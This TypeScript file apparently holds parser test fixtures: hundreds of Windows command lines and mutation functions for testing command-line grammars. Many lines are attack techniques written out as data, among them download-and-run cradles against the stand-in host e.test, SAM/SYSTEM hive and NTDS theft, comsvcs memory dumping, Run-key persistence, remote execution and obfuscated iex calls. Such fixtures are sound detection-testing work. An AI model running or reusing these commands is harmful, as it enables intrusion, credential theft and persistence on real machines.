/** Lines that show each rule of the grammars at work, and ways to bend them by one sign. */

export const LINES: readonly string[] = String.raw`
cmd /c "C:\x y\a.exe" -q
cmd /s /c "C:\x\a.exe & C:\y\b.exe"
cmd /v:on /c set p=C:\x\a.exe&!p!
cmd /q/d/c(C:\x\a.exe)
cmd /c "echo a & "C:\x y\a.exe" & echo b"
cmd /c echo "a & b" | C:\x\a.exe
cmd /c C:\x\a.exe ^& C:\y\b.exe 2>&1
cmd /c if exist C:\x\a.exe (C:\x\a.exe) else C:\y\b.exe
cmd /c if not "a"=="b" C:\x\a.exe
cmd /c for %i in (a b) do C:\x\%i.exe
cmd /c for /f "delims=" %i in ('dir /b C:\x') do C:\y\b.exe
cmd /c cd /d C:\x && a.exe
cmd /c pushd \\srv\share & a.exe
cmd /c start "title" /min /d C:\x a.exe
cmd /c start /b "" "C:\x y\a.exe" -q
cmd /c type C:\x\a.ps1 | powershell -
cmd /c echo C:\x\a.exe | cmd
cmd /c powershell - < C:\x\a.ps1
cmd /c copy C:\x\a.exe C:\y & C:\y\a.exe
cmd /c timeout 5 >nul & C:\x\a.exe
cmd /c call C:\x\a.bat
cmd /k @C:\x\a.bat
%COMSPEC:~0,20%cmd.exe /c C:\x\a.exe
powershell -nop -w hidden -c "& 'C:\x y\a.ps1' -q"
powershell -ep bypass -File C:\x\a.ps1 b
powershell -c "iex (irm http://e.test/a)"
powershell -c "Start-Process -FilePath C:\x\a.exe -ArgumentList '-q' -WindowStyle Hidden"
powershell -c "saps 'C:\x y\a.exe'; exit"
powershell -c "$p='C:\x\a.exe'; & $p"
powershell -c "&('i'+'ex') 'calc'"
powershell -c "('{1}{0}' -f 'x','ie')"
powershell -c "'xei'[-1..-3] -join ''"
powershell -c "[char]73+[char]69+[char]88"
powershell -c "(gp HKCU:\Software\X).Y | iex"
powershell -c "iex (Get-ItemProperty -Path 'HKCU:\Software\X' -Name Y).Y"
powershell -c "gc C:\x\a.txt | iex"
powershell -c "Import-Module C:\x\a.psm1"
powershell -c "[Reflection.Assembly]::LoadFile('C:\x\a.dll')"
powershell -c "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='C:\x\a.exe'}"
powershell -Version 2 -enc SQBFAFgA
wsl.exe -d Ubuntu -u root -e bash -c "/mnt/c/x/a.sh -q"
wsl -- /mnt/c/x/a.exe b
wsl --cd ~ -- curl http://e.test/a
bash -lc /tmp/a
bash /mnt/c/x/a.sh b
sh -c "C:\x\a.exe -q"
rundll32 "C:\x y\a.dll",Go b
rundll32.exe C:\x\a.dll Go
rundll32 C:\x\a.dat,#1
rundll32 javascript:"\..\mshtml,RunHTMLApplication ";x()
rundll32 url.dll,OpenURL file:///C:/x/a.hta
rundll32 shell32.dll,Control_RunDLL C:\x\a.cpl
rundll32 advpack.dll,LaunchINFSection C:\x\a.inf,Go,1
regsvr32 /s /n /u /i:http://e.test/a.sct scrobj.dll
regsvr32 -s "C:\x y\a.ocx"
mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""C:\x\a.exe"":close")
mshta "C:\x y\a.hta" b
msiexec /q /i http://e.test/a.msi
msiexec /y C:\x\a.dll
wscript //B //E:vbscript C:\x\a.txt b
cscript.exe //nologo "C:\x y\a.js"
forfiles /p C:\Windows /m n.exe /c "cmd /c C:\x\a.exe"
pcalua -a C:\x\a.exe -c -q
conhost --headless cmd /c C:\x\a.exe
explorer.exe /root,"C:\x\a.exe"
wmic process call create "C:\x\a.exe -q"
wmic /node:srv process call create 'cmd /c C:\x\a.exe'
schtasks /run /tn x
schtasks /create /tn x /tr "reg save HKLM\SAM C:\o" /s srv
sc \\srv create x binPath= "cmd /c reg save HKLM\SAM C:\o"
at \\srv 12:00 cmd /c reg save HKLM\SAM C:\o
psexec \\srv -s -d cmd /c reg save HKLM\SYSTEM C:\o
winrs -r:srv reg save HKLM\SAM C:\o
bitsadmin /transfer x http://e.test/a C:\x\a.exe
certutil -urlcache -f http://e.test/a C:\x\a.exe
curl -o C:\x\a.exe http://e.test/a
java -cp C:\x\a.jar Main b
javaw -jar "C:\x y\a.jar"
node C:\x\a.js b
python -m a
pythonw.exe C:\x\a.py
installutil /logfile= /u C:\x\a.dll
msbuild C:\x\a.csproj
odbcconf /a {REGSVR C:\x\a.dll}
cmstp /s C:\x\a.inf
hh.exe http://e.test/a.chm
control.exe C:\x\a.cpl
ssh -o ProxyCommand="C:\x\a.exe" h
ftp -s:C:\x\a.txt
C:\Program Files\A B\c.exe /x
C:\x y\a b.exe:s.ps1 -q
"C:\x y\a.exe"b
\\srv\share\a.exe -q
\\srv@SSL\DavWWWRoot\a.exe
\\?\C:\x\a.exe
\??\C:\x\a.exe
\SystemRoot\System32\a.exe
%APPDATA%\a.exe -q
%%TEMP%%\a b.exe
C:\PROGRA~1\a\b.exe
C:\x\..\y\.\a.exe.
file:///C:/x/a%20b.hta
http://e.test/a?b=c
shell:startup
a.exe,b.exe
userinit.exe,C:\x\a.exe
reg save HKLM\SAM C:\o /y
reg.exe SAVE \\srv\HKLM\SYSTEM "C:\x y\o.hiv" /reg:64
reg export "HKEY_LOCAL_MACHINE\SOFTWARE\A B" C:\o.reg /y
reg restore HKLM\SYSTEM\ControlSet001\Services\x C:\o
reg load HKU\x C:\Users\a\NTUSER.DAT
reg unload HKU\x
reg copy HKLM\SAM HKCU\S /s /f
reg compare HKLM\A \\srv\HKLM\A /v b
reg query HKLM /f password /t REG_SZ /s
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v U /t REG_EXPAND_SZ /d "%TEMP%\a.exe" /f
reg add "HKLM\A B" /ve /d x
reg add HKLM\A /v M /t REG_MULTI_SZ /s ; /d a;b
reg delete HKCU\A /va /f
reg import C:\x\a.reg
reg flags HKLM\Software\A set DONT_VIRTUALIZE
regedit /e C:\o.reg HKEY_LOCAL_MACHINE\SAM
regedit /s "C:\x y\a.reg"
r^eg s"av"e hk"lm\s"am C:\o
svc.exe save hklm\security C:\o
cmd /c for %i in (SAM SYSTEM) do reg save HKLM\%i C:\o\%i
powershell "'SAM','SYSTEM' | % { reg save HKLM\$_ C:\$_ }"
powershell -c "foreach($h in 'sam','system'){reg save hklm\$h C:\$h}"
powershell -c "Start-Process reg -ArgumentList 'save','HKLM\SAM','C:\o'"
powershell -c "Copy-Item HKLM:\SAM HKCU:\S -Recurse"
powershell -c "gci HKLM:\SAM | Export-Clixml C:\o"
powershell -c "[R]::RegSaveKeyEx($k,'C:\o',0,2) # SAM"
powershell -c "New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name U -Value C:\x\a.exe"
powershell -c "sp HKCU:\A U C:\x; cd HKLM:\B; sp . V y -Type DWord"
powershell -c "Set-Item -Path HKCU:\A\B -Value C:\x"
powershell -c "[Microsoft.Win32.Registry]::SetValue('HKEY_CURRENT_USER\A','U','C:\x')"
powershell -c "[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('A',$true).SetValue('U','x')"
powershell -c "$w=New-Object -com WScript.Shell; $w.RegWrite('HKCU\A\U','C:\x','REG_SZ')"
powershell -c "([wmiclass]'root\default:StdRegProv').SetStringValue(2147483650,'A','U','C:\x')"
wmic /namespace:\\root\default class stdregprov call SetStringValue hDefKey="&H80000001" sSubKeyName="A" sValueName="U" sValue="C:\x"
powershell -c "Invoke-Command -ComputerName srv { reg add HKLM\A /v U /d x }"
copy C:\Windows\System32\config\SAM C:\o
esentutl /y /vss C:\Windows\System32\config\SYSTEM /d C:\o
ntdsutil "ac i ntds" "ifm" "create full C:\o" q q
wbadmin start backup -include:C:\Windows\System32\config -backupTarget:D: -quiet
robocopy C:\Windows\System32\config C:\o SAM SYSTEM /b
cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\System32\config\SECURITY C:\o\s
print /D:C:\o C:\Windows\repair\sam
makecab C:\Windows\System32\config\SAM C:\o.cab
powershell -c "[IO.File]::Copy('C:\Windows\System32\config\SAM','C:\o')"
powershell -c "Start-Process -fi 'C:\x\a.exe' -Verb RunAs -Wait"
powershell -c "Start-Process -LiteralPath C:\x\a.exe"
powershell -c "saps -NoNewWindow C:\x\a.exe -arg:-q"
powershell -c "Start-Process -FilePath:'C:\x y\a.exe' -ArgumentList:'-q','b c' -WorkingDirectory C:\y"
powershell -c "Start-Process cmd -Args '/c C:\x\a.exe'"
powershell -c "ii C:\x\a.hta"
powershell -c "Invoke-Item -Path 'C:\x y\a.lnk'"
powershell -c "Invoke-Expression (Get-Content -Raw 'C:\x\a.txt')"
powershell -c ". C:\x\a.ps1; b"
powershell -c "[System.Diagnostics.Process]::Start('C:\x y\a.exe','-q b')"
powershell -c "Add-Type -Path C:\x\a.dll"
powershell -c "(New-Object -ComObject Shell.Application).ShellExecute('C:\x\a.exe','-q')"
powershell -c "(New-Object Net.WebClient).DownloadFile('http://e.test/a','C:\x\a.exe'); C:\x\a.exe"
powershell -command "& {C:\x\a.ps1 -b}"
powershell C:\x\a.ps1 -b
powershell . 'C:\x y\a.ps1'
powershell -NoLogo -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -Command C:\x\a.exe
powershell -w 1 -sta -mta -noexit -of text -if xml -psconsolefile C:\x\a.psc1 -c C:\x\a.exe
powershell /EncodedCommand:YwBhAGwAYwA=
powershell -e "YwBhAGwAYwA="
powershell -encodeda YQA= -c C:\x\a.exe
pwsh -login -wd C:\x -file a.ps1
pwsh -ConfigurationName x -CustomPipeName y -c a
rundll32 C:\x\a.dll, Go
rundll32.exe "C:\x\a.dll" , Go
rundll32 a.dll,GoA b
rundll32 ieframe.dll,OpenURLA "http://e.test/a"
rundll32 url.dll,FileProtocolHandlerW calc.exe
rundll32 zipfldr.dll,RouteTheCall C:\x\a.exe
rundll32 shell32.dll,ShellExec_RunDLLA "C:\x y\a.exe" -q
rundll32 shell32,ShellExec_RunDLL ?0x400?C:\x\a.exe
rundll32 setupapi.dll,InstallHinfSection DefaultInstall 132 C:\x\a.inf
rundll32 ieadvpack,RegisterOCX C:\x\a.exe
rundll32 pcwutl.dll,LaunchApplication C:\x\a.exe
rundll32 dfshim.dll,ShOpenVerbApplication http://e.test/a.application
rundll32 C:\Windows\System32\shell32.dll,Control_RunDLL "C:\x y\a.cpl",@1,2
rundll32 comsvcs.dll,MiniDump 1 C:\o full
rundll32 \\srv\s\a.dll,#12
rundll32 "\\srv\s x\a.dll",Go
rundll32 -sta {00000000-0000-0000-0000-000000000000}
rundll32 mshtml.dll,PrintHTML "C:\x\a.htm"
C:\x y\z w\a b\c d.exe
C:\x y -b\a.exe -c
C:\x y /b \a.exe
C:\x D:\y\a.exe
C:\a b \\srv\s\c.exe
C:\x y http://e.test/a
C:\x y "b c\a.exe"
C:\x\a.exe,C:\y\b.exe
C:\a,b c\d.exe,-1
C:\Windows\System32\rundll32 C:\x\a.dll,Go
C:\Program Files\cmd /c C:\x\a.exe
C:\x\start menu\a.lnk
.\a b.exe c
..\x\a.ps1
a\b c.exe -d
"C:\x\a" b
"" C:\x\a.exe
"C:\x y\a.exe
""C:\x y\a.exe" -q"
'C:\x y\a.exe' -q
C:\x\.exe
C:\x\a .exe
C:\x\a.exe.txt
C:\x\a.pdf                 .exe
cmd /c set a=C:\x&& set b=\a.exe&& call %a%%b%
cmd /c "set x=reg save&& %x% HKLM\SAM C:\o"
cmd /v /c "set p=abcC:\x\a.exe& !p:~3!"
cmd /c set p=C:\q\a.exe& %p:q=x%
cmd /c (echo a) & (C:\x\a.exe)
cmd /c C:\x\a.exe|more
cmd /c <C:\i C:\x\a.exe >C:\o 2>nul
cmd /c "C:\x\a.exe" "b c" d
cmd /c if defined x (C:\x\a.exe) else (C:\y\b.exe)
cmd /c if /i "%1"=="" C:\x\a.exe
cmd /c if 1 equ 1 C:\x\a.exe
cmd /c if errorlevel 1 C:\x\a.exe
cmd /c for %%a in (C:\x\a.exe;C:\y\b.exe) do @start %%a
cmd /c for /l %i in (1,1,3) do C:\x\a.exe
cmd /c ping -n 5 127.0.0.1>nul&start /w C:\x\a.exe
cmd /c mshta http://e.test/a & exit
cmd /c del C:\x\a.exe & rd /s /q C:\x
cmd
cmd /c
powershell
mshta.exe
wscript /nologo /e:jscript "C:\x y\a.txt" //b c
wscript "\\srv\s\a.vbs"
cscript //job:b C:\x\a.wsf
mshta javascript:a=new%20ActiveXObject("WScript.Shell");a.run("C:\\x\\a.exe")
mshta about:"<script>x</script>"
msiexec /package "C:\x y\a.msi" /qn PROP=1
msiexec /fa {00000000-0000-0000-0000-000000000000}
msiexec -z "C:\x\a.dll"
msiexec /i\\srv\s\a.msi TRANSFORMS=C:\x\a.mst
regsvr32 C:\x\a.dll /s
regsvr32 /u:C:\x C:\x\a.dll
regsvr32 /s /i:C:\x\a.sct scrobj
forfiles /c "0x22C:\x y\a.exe0x22 -q" /m n.exe
forfiles -m n -c C:\x\a.exe
java -Xmx1g -jar C:\x\a.jar -b
python -c "import os;os.system('C:\x\a.exe')"
python -u -W ignore C:\x\a.py b
py -3 C:\x\a.py
node -e "require('child_process').exec('C:\\x\\a.exe')"
php -r "exec('C:\x\a.exe');"
perl -e "system('C:\x\a.exe')"
wscript.exe C:\x\a.vbs C:\y\b.txt
msbuild /nologo "C:\x y\a.xml" /p:A=b
certutil -decode C:\x\a.txt C:\x\a.exe
bitsadmin /SetNotifyCmdLine j C:\x\a.exe "a.exe -q"
esentutl /y C:\x\a.exe /d C:\y\a.exe:s /o
ssh -oLocalCommand=C:\x\a.exe -oPermitLocalCommand=yes h
wt -p x ; nt C:\x\a.exe
explorer C:\x\a.lnk
explorer shell:AppsFolder\x!App
scriptrunner -appvscript "C:\x y\a.cmd" -q
conhost.exe 0xffffffff -ForceV1 C:\x\a.exe
psexec -accepteula -i 1 -u a -p b C:\x\a.exe -q
runas /user:a "C:\x\a.exe -q"
schtasks /create /sc onlogon /tn x /tr C:\x\a.exe /f
reg save
reg save HKLM
reg save HKXX\SAM C:\o
reg  save  hklm\sam  C:\o
reg save HKLM\SAM\ "C:\o" /compress
reg save "HKLM\SAM" C:\x y\o
reg save \\.\HKLM\SAM C:\o
reg save \\srv\HKU\S-1-5-21-1-2-3-1001 o.hiv
reg save HKU\.DEFAULT C:\o
reg save HKEY_USERS\S-1-5-18 C:\o
reg save HKCR\x C:\o
reg save HKCC\x C:\o
reg save HKCU\Software\Classes C:\o
reg save HKLM/SAM C:\o
reg -save hklm\sam C:\o
reg export HKCU\A -y C:\o
reg restore HKLM\Software\Microsoft\Windows\CurrentVersion\Run C:\i
reg copy \\srv\HKLM\A \\.\HKCU\B /s
reg add HKLM\A
reg add HKLM\A /v "b c" /d "d \"e\" f" /f
reg add HKLM\A /v a /t REG_BINARY /d 4142
reg add HKLM\A /v a /t DWORD /d 1 /reg:32
reg add HKCU\A /ve
reg add HKCU\A /f /d x /v y
reg delete HKLM\A /v b /f
reg import "C:\x y\a.reg" /reg:64
reg import \\srv\s\a.reg
reg unload "HKLM\x y"
reg help save
reg /?
regedit
regedit C:\x\a.reg
regedit -e C:\o.reg "HKEY_LOCAL_MACHINE\SYSTEM"
regedit /e /a C:\o.reg HKLM\SAM
regedit.exe /i /s /q C:\x\a.reg
regedt32 /s a.reg
powershell -c "reg save hklm\sam C:\o; reg save hklm\system C:\p"
powershell -c "& reg.exe @('save','hklm\sam','C:\o')"
powershell -c "cmd /c 'reg save hklm\sam C:\o'"
powershell -c "gp 'HKLM:\SAM' | Out-File C:\o"
powershell -c "Get-ChildItem -Path Registry::HKEY_LOCAL_MACHINE\SECURITY -Recurse | Export-Csv C:\o.csv"
powershell -c "cp HKLM:SAM HKLM:\x"
powershell -c "Copy-Item -Destination HKCU:\S -Path HKLM:\SAM"
powershell -c "New-ItemProperty HKLM:\A -n U -v x -pr ExpandString -Force"
powershell -c "Set-ItemProperty -LiteralPath 'Registry::HKEY_CURRENT_USER\A' -Name 'b c' -Value \"d e\""
powershell -c "New-Item -Path HKCU:\A -Name B -Value x -Force"
powershell -c "$k='HKCU:\A'; Set-ItemProperty $k U x"
powershell -c "$r=[Microsoft.Win32.RegistryKey]::OpenRemoteBaseKey('LocalMachine','srv').CreateSubKey('A').SetValue('U','x')"
powershell -c "Invoke-CimMethod -Namespace root/default -ClassName StdRegProv -MethodName SetStringValue -Arguments @{hDefKey=[uint32]2147483649;sSubKeyName='A';sValueName='U';sValue='x'}"
copy /y C:\Windows\System32\config\SAM+C:\x C:\o
copy C:\Windows\repair\system C:\o\system.bak
xcopy C:\Windows\System32\config\*.* C:\o /h
cmd /c type C:\Windows\System32\config\SAM > C:\o
move C:\x\sam C:\y
esentutl.exe /y C:\Windows\ntds\ntds.dit /d C:\o.dit /o
esentutl /y "C:\x y\a" /d b
cmd /c mklink /d C:\v \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\
vssadmin create shadow /for=C:
7z a C:\o.7z C:\Windows\System32\config\SAM
rar a -hp C:\o.rar C:\x\sam.save
cmd /c set p=C:\q\a.exe& %p:*q\=C:\z\%
cmd /c "set p=abc& C:\x\%p:~1,1%.exe"
cmd /c set p=C:\x& set q=\a.exe& %p%%q%
cmd /v:on /c "set p=C:\x\a.exe&& call !p! & echo !p:~-5!"
powershell -c "$a='C:\x';$b=\"$a\a.exe\"; & $b"
powershell -c "$p = \"C:\x\a.exe\"; Start-Process $p -q"
powershell -c "$\{p}='C:\x\a.exe'; . $\{p}"
powershell -c "iex $('ca'+'lc')"
powershell -c "'ab' -replace 'a','c'"
powershell -c "('a,b' -split ',')[0]"
powershell -c "[string]::Join('',('i','e','x'))"
powershell -c "[Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('Y2FsYw=='))|iex"
powershell -c "$b='Y2FsYw==';iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))"
powershell -c "iex 'calc'"
powershell -c "[char[]](105,101,120) -join ''"
mshta vbscript:Execute(Chr(105)&Chr(101))
`
  .split('\n')
  .filter((line) => line !== '');

type Bend = readonly [name: string, bend: (line: string) => string];

/** Each changes one thing that a grammar may hang on. */
export const BENDS: readonly Bend[] = [
  ['', (line) => line],
  ['in quotes', (line) => `"${line}"`],
  ['one letter before', (line) => `a${line}`],
  ['one letter behind', (line) => `${line}a`],
  ['without its end', (line) => line.slice(0, -1)],
  ['half', (line) => line.slice(0, Math.ceil(line.length / 2))],
  ['doubled blanks', (line) => line.replaceAll(' ', '  ')],
  ['no quotes', (line) => line.replace(/["']/g, '')],
  ['other quotes', (line) => line.replaceAll('"', "'")],
  ['dashes for slashes', (line) => line.replace(/ \/(?=\w)/g, ' -')],
  ['with more', (line) => `${line} & C:\\z\\z.exe /z`],
  ['upper case', (line) => line.toUpperCase()],
];
